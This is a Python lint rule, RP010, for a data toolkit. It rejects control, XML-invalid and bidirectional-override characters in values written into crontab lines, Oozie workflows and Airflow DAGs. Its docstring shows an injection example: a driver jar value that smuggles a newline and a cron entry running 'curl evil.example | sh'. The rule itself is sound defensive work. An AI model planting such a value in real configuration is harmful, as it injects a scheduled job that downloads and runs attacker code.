"""RP010: no control character, no character XML refuses and no bidirectional override in any value that reaches
a generated schedule line.

Why:
`toolkit schedule` writes names, a datasource's driver jars, a cluster's spark-submit arguments and host paths, time
zones and data locations into crontab lines, Oozie workflows and Airflow DAGs (toolkit/core/entities/scheduled_values.py
lists them). A line break there ends a crontab line, and what follows becomes a cron entry of its own that runs any
command; other control characters, and U+FFFE and U+FFFF, make an XML file Oozie cannot read; a bidirectional
override or isolate (U+202A-202E, U+2066-2069) shows the line, or the DAG's docstring, in another order than the
one it runs in, hiding it from whoever reviews it. The schedule refuses such a value (exit 2); this rule says so at
review, in every entity, on any cluster.

Anti-pattern: a line break in a driver's jar (YAML's "\\n") starts a second crontab entry.

    driver:
      clazz: org.postgresql.Driver
      jar: ["/usr/share/java/postgresql.jar\\n* * * * * curl evil.example | sh"]

Best practice:

    driver:
      clazz: org.postgresql.Driver
      jar: [/usr/share/java/postgresql.jar]
"""

from __future__ import annotations

from collections.abc import Iterator

from toolkit.authoring.lint.context import LintContext
from toolkit.authoring.lint.rule import Finding, Rule, register
from toolkit.core.entities.scheduled_values import scheduled_values


@register
class ScheduleValues(Rule):
    code = "RP010"
    summary = ("No control character, character XML refuses or bidirectional override in any value that reaches a "
               "generated schedule line.")

    def check(self, ctx: LintContext) -> Iterator[Finding]:
        for entity in ctx.repo.entities:
            for value in scheduled_values(entity):
                problem = value.problem()
                if problem is not None:
                    yield Finding(entity, problem, value.path)
